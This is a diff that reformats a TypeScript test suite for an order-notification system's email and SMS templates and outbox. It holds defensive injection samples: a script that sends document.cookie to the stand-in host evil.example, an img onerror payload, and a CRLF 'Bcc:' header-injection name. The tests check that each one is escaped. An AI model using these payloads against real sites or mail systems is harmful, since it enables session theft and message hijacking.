@@ -19,7 +19,12 @@ const draft = (productId: Id<"products">, over: Partial<OrderDraft> = {}): Order
 });
 
 const messages = (t: TestBackend, orderId: Id<"orders">) =>
-  t.run((ctx) => ctx.db.query("notifications").withIndex("by_orderId", (q) => q.eq("orderId", orderId)).collect());
+  t.run((ctx) =>
+    ctx.db
+      .query("notifications")
+      .withIndex("by_orderId", (q) => q.eq("orderId", orderId))
+      .collect(),
+  );
 
 describe("notifications are queued with the change they announce", () => {
   test("order confirmed: rendered with every customer value escaped — the note's <script> never appears unescaped", async () => {
@@ -27,11 +32,15 @@ describe("notifications are queued with the change they announce", () => {
     const { productIds } = await seedStock(b.t, [5]);
     const { orderId, number } = await b.t.run((ctx) => createOrder(ctx, undefined, draft(productIds[0])));
     const rows = await messages(b.t, orderId);
-    expect(rows.map((r) => [r.event, r.channel, r.status, r.to])).toEqual([["order_confirmed", "email", "queued", "mallory@example.com"]]);
+    expect(rows.map((r) => [r.event, r.channel, r.status, r.to])).toEqual([
+      ["order_confirmed", "email", "queued", "mallory@example.com"],
+    ]);
     const [m] = rows;
     expect(m.subject).toBe(`Order ${number} confirmed`);
     expect(m.body).not.toMatch(/<script|<img/i);
-    expect(m.body).toContain("Ring twice &lt;script&gt;fetch(&quot;https://evil.example/&quot;+document.cookie)&lt;/script&gt;");
+    expect(m.body).toContain(
+      "Ring twice &lt;script&gt;fetch(&quot;https://evil.example/&quot;+document.cookie)&lt;/script&gt;",
+    );
     expect(m.body).toContain("Hi Mallory &lt;img src=x onerror=alert(1)&gt;,");
     expect(m.body).toContain("<li>2 × ");
     expect(m.body).toContain("($30.00)");
@@ -43,11 +52,19 @@ describe("notifications are queued with the change they announce", () => {
   test("a held order is confirmed only when released; a failed payment never is", async () => {
     const b = await setupTest();
     const { productIds } = await seedStock(b.t, [5]);
-    const held = await b.t.run((ctx) => createOrder(ctx, undefined, draft(productIds[0], { paymentStatus: "pending" })));
+    const held = await b.t.run((ctx) =>
+      createOrder(ctx, undefined, draft(productIds[0], { paymentStatus: "pending" })),
+    );
     expect(await messages(b.t, held.orderId)).toEqual([]);
     await b.t.mutation(internal.holds.confirmPayment, { orderId: held.orderId });
     expect((await messages(b.t, held.orderId)).map((m) => m.event)).toEqual(["order_confirmed"]);
-    const failed = await b.t.run((ctx) => createOrder(ctx, undefined, draft(productIds[0], { paymentStatus: "pending", customer: { name: "F", email: "f@example.com" } })));
+    const failed = await b.t.run((ctx) =>
+      createOrder(
+        ctx,
+        undefined,
+        draft(productIds[0], { paymentStatus: "pending", customer: { name: "F", email: "f@example.com" } }),
+      ),
+    );
     await b.t.mutation(internal.holds.failPayment, { orderId: failed.orderId, reason: "declined" });
     expect(await messages(b.t, failed.orderId)).toEqual([]);
   });
@@ -67,20 +84,72 @@ describe("notifications are queued with the change they announce", () => {
     const { productIds } = await seedStock(b.t, [5]);
     const { orderId } = await b.t.run((ctx) => createOrder(ctx, undefined, draft(productIds[0])));
     await b.t.run(async (ctx) => {
-      const shipment = (await ctx.db.query("shipments").withIndex("by_orderId", (q) => q.eq("orderId", orderId)).first())!;
-      await ctx.db.patch("shipments", shipment._id, { status: "packed", lines: shipment.lines.map((l) => ({ ...l, picked: l.quantity, packed: l.quantity })) });
+      const shipment = (await ctx.db
+        .query("shipments")
+        .withIndex("by_orderId", (q) => q.eq("orderId", orderId))
+        .first())!;
+      await ctx.db.patch("shipments", shipment._id, {
+        status: "packed",
+        lines: shipment.lines.map((l) => ({ ...l, picked: l.quantity, packed: l.quantity })),
+      });
       await ctx.db.patch("orderLines", shipment.lines[0].orderLineId, { picked: 2 });
-      const requestId = await ctx.db.insert("rateShopRequests", { shipmentId: shipment._id, packageIds: [], status: "done" as never, autoBuy: false, requestedByName: "t", requestedAt: 0, outcomes: [] });
-      const quoteId = await ctx.db.insert("shippingQuotes", { shipmentId: shipment._id, requestId, provider: "easypost", carrier: "UPS", service: "Ground", amountMinor: 900, currency: "USD", ref: "{}", quotedAt: 0, selected: true });
+      const requestId = await ctx.db.insert("rateShopRequests", {
+        shipmentId: shipment._id,
+        packageIds: [],
+        status: "done" as never,
+        autoBuy: false,
+        requestedByName: "t",
+        requestedAt: 0,
+        outcomes: [],
+      });
+      const quoteId = await ctx.db.insert("shippingQuotes", {
+        shipmentId: shipment._id,
+        requestId,
+        provider: "easypost",
+        carrier: "UPS",
+        service: "Ground",
+        amountMinor: 900,
+        currency: "USD",
+        ref: "{}",
+        quotedAt: 0,
+        selected: true,
+      });
       for (const [i, tn] of ["1Z111", "1Z222"].entries()) {
-        const packageId = await ctx.db.insert("packages", { shipmentId: shipment._id, index: i + 1, weightGrams: 500, lengthMm: 1, widthMm: 1, heightMm: 1, items: [] });
-        await ctx.db.insert("shippingLabels", { shipmentId: shipment._id, packageId, quoteId, purchaseKey: "k", idempotencyKey: `k${i}`, provider: "easypost", carrier: "UPS", service: "Ground", status: "purchased", attempts: 1, trackingNumber: tn, currency: "USD", requestedByName: "t", createdAt: 0 });
+        const packageId = await ctx.db.insert("packages", {
+          shipmentId: shipment._id,
+          index: i + 1,
+          weightGrams: 500,
+          lengthMm: 1,
+          widthMm: 1,
+          heightMm: 1,
+          items: [],
+        });
+        await ctx.db.insert("shippingLabels", {
+          shipmentId: shipment._id,
+          packageId,
+          quoteId,
+          purchaseKey: "k",
+          idempotencyKey: `k${i}`,
+          provider: "easypost",
+          carrier: "UPS",
+          service: "Ground",
+          status: "purchased",
+          attempts: 1,
+          trackingNumber: tn,
+          currency: "USD",
+          requestedByName: "t",
+          createdAt: 0,
+        });
       }
       await shipShipment(ctx, undefined, shipment._id);
       await transitionOrder(ctx, undefined, orderId, "delivered", { reason: "Carrier delivered" });
     });
     const rows = (await messages(b.t, orderId)).filter((m) => m.event !== "order_confirmed");
-    expect(rows.map((r) => [r.event, r.channel])).toEqual([["shipped", "email"], ["shipped", "sms"], ["delivered", "email"]]);
+    expect(rows.map((r) => [r.event, r.channel])).toEqual([
+      ["shipped", "email"],
+      ["shipped", "sms"],
+      ["delivered", "email"],
+    ]);
     expect(rows[0].body).toContain("<li>UPS Ground: 1Z111</li><li>UPS Ground: 1Z222</li>");
     expect(rows[1].body).toMatch(/shipped: UPS 1Z111 UPS 1Z222$/);
     expect(rows[1].to).toBe("+15555550100");
@@ -91,14 +160,33 @@ describe("notifications are queued with the change they announce", () => {
     const { productIds } = await seedStock(b.t, [5]);
     const { orderId } = await b.t.run((ctx) => createOrder(ctx, undefined, draft(productIds[0])));
     await b.t.run(async (ctx) => {
-      const base = { number: "RMA-9", orderId, orderNumber: "x", origin: "operator" as const, reasons: ["defective" as const], expectedDisposition: "restock" as const, currency: "USD" as const, refundPolicy: { includeShipping: false, shippingMinor: 0, restockingFeeBps: 0 }, refundAmountMinor: 1500, refundStatus: "not_due" as const, unitsAuthorised: 1, unitsSettled: 0, createdByName: "t", createdAt: 0, updatedAt: 0 };
+      const base = {
+        number: "RMA-9",
+        orderId,
+        orderNumber: "x",
+        origin: "operator" as const,
+        reasons: ["defective" as const],
+        expectedDisposition: "restock" as const,
+        currency: "USD" as const,
+        refundPolicy: { includeShipping: false, shippingMinor: 0, restockingFeeBps: 0 },
+        refundAmountMinor: 1500,
+        refundStatus: "not_due" as const,
+        unitsAuthorised: 1,
+        unitsSettled: 0,
+        createdByName: "t",
+        createdAt: 0,
+        updatedAt: 0,
+      };
       const rmaId = await ctx.db.insert("rmas", { ...base, status: "in_transit" });
       let rma = (await ctx.db.get("rmas", rmaId))!;
       rma = await transitionRma(ctx, undefined, rma, "received", "");
       await transitionRma(ctx, undefined, rma, "refunded", "");
     });
     const rows = (await messages(b.t, orderId)).filter((m) => m.event !== "order_confirmed");
-    expect(rows.map((r) => [r.event, r.subject])).toEqual([["return_received", "We received your return RMA-9"], ["refund_issued", "Refund of $15.00 issued"]]);
+    expect(rows.map((r) => [r.event, r.subject])).toEqual([
+      ["return_received", "We received your return RMA-9"],
+      ["refund_issued", "Refund of $15.00 issued"],
+    ]);
   });
 });
 
@@ -108,15 +196,55 @@ describe("templates and the outbox", () => {
     const { productIds } = await seedStock(b.t, [5]);
     const { templates } = await b.supervisor.query(api.notifications.templates, {});
     const t = templates.find((x) => x.event === "order_confirmed" && x.channel === "email")!;
-    const bad = await errorOf(b.supervisor.mutation(api.notifications.saveTemplate, { event: t.event, channel: t.channel, enabled: t.enabled, subject: t.subject, body: "Hi {{password}}", baseVersion: t.version }));
-    expect(bad).toMatchObject({ code: "INVALID_INPUT", fields: { body: expect.stringMatching(/password\}\} is not available/) } });
-    const v1 = await b.supervisor.mutation(api.notifications.saveTemplate, { event: t.event, channel: t.channel, enabled: true, subject: "Thanks, {{customerName}}", body: "<p>{{orderNote}}</p>", baseVersion: 0 });
+    const bad = await errorOf(
+      b.supervisor.mutation(api.notifications.saveTemplate, {
+        event: t.event,
+        channel: t.channel,
+        enabled: t.enabled,
+        subject: t.subject,
+        body: "Hi {{password}}",
+        baseVersion: t.version,
+      }),
+    );
+    expect(bad).toMatchObject({
+      code: "INVALID_INPUT",
+      fields: { body: expect.stringMatching(/password\}\} is not available/) },
+    });
+    const v1 = await b.supervisor.mutation(api.notifications.saveTemplate, {
+      event: t.event,
+      channel: t.channel,
+      enabled: true,
+      subject: "Thanks, {{customerName}}",
+      body: "<p>{{orderNote}}</p>",
+      baseVersion: 0,
+    });
     expect(v1).toBe(1);
-    expect((await errorOf(b.supervisor.mutation(api.notifications.saveTemplate, { event: t.event, channel: t.channel, enabled: true, subject: "x", body: "y", baseVersion: 0 }))).code).toBe("CONFLICT");
-    const { orderId } = await b.t.run((ctx) => createOrder(ctx, undefined, draft(productIds[0], { customer: { name: "Bo\r\nBcc: x@y.z", email: "bo@example.com" } })));
+    expect(
+      (
+        await errorOf(
+          b.supervisor.mutation(api.notifications.saveTemplate, {
+            event: t.event,
+            channel: t.channel,
+            enabled: true,
+            subject: "x",
+            body: "y",
+            baseVersion: 0,
+          }),
+        )
+      ).code,
+    ).toBe("CONFLICT");
+    const { orderId } = await b.t.run((ctx) =>
+      createOrder(
+        ctx,
+        undefined,
+        draft(productIds[0], { customer: { name: "Bo\r\nBcc: x@y.z", email: "bo@example.com" } }),
+      ),
+    );
     const [m] = await messages(b.t, orderId);
     expect([m.subject, m.templateVersion]).toEqual(["Thanks, Bo Bcc: x@y.z", 1]);
-    expect(m.body).toBe("<p>Ring twice &lt;script&gt;fetch(&quot;https://evil.example/&quot;+document.cookie)&lt;/script&gt;</p>");
+    expect(m.body).toBe(
+      "<p>Ring twice &lt;script&gt;fetch(&quot;https://evil.example/&quot;+document.cookie)&lt;/script&gt;</p>",
+    );
     expect((await errorOf(b.floor.query(api.notifications.templates, {}))).code).toBe("FORBIDDEN");
   });
 
@@ -128,16 +256,25 @@ describe("templates and the outbox", () => {
     expect(claimed).toHaveLength(1);
     expect(await b.t.mutation(internal.notifications.claimDue, { limit: 10 })).toEqual([]);
     await b.t.mutation(internal.notifications.recordResult, { id: claimed[0]._id, result: { kind: "offline" } });
-    const page = await b.supervisor.query(api.notifications.outbox, { status: "offline", paginationOpts: { numItems: 10, cursor: null } });
+    const page = await b.supervisor.query(api.notifications.outbox, {
+      status: "offline",
+      paginationOpts: { numItems: 10, cursor: null },
+    });
     expect(page.page.map((r) => r.orderId)).toEqual([orderId]);
     await b.supervisor.mutation(api.notifications.resend, { id: claimed[0]._id });
     const [again] = await b.t.mutation(internal.notifications.claimDue, { limit: 10 });
-    await b.t.mutation(internal.notifications.recordResult, { id: again._id, result: { kind: "failed", provider: "postmark", error: "HTTP 503", retryable: true } });
+    await b.t.mutation(internal.notifications.recordResult, {
+      id: again._id,
+      result: { kind: "failed", provider: "postmark", error: "HTTP 503", retryable: true },
+    });
     const row = await b.t.run(async (ctx) => (await ctx.db.get("notifications", again._id))!);
     expect([row.status, row.attempts, row.lastError]).toEqual(["queued", 1, "HTTP 503"]);
     expect(row.nextAttemptAt).toBeGreaterThan(Date.now() + 20_000);
     await b.t.run((ctx) => ctx.db.patch("notifications", again._id, { status: "sending" }));
-    await b.t.mutation(internal.notifications.recordResult, { id: again._id, result: { kind: "failed", provider: "postmark", error: "422 invalid email", retryable: false } });
+    await b.t.mutation(internal.notifications.recordResult, {
+      id: again._id,
+      result: { kind: "failed", provider: "postmark", error: "422 invalid email", retryable: false },
+    });
     expect((await b.t.run(async (ctx) => (await ctx.db.get("notifications", again._id))!)).status).toBe("failed");
   });
 });
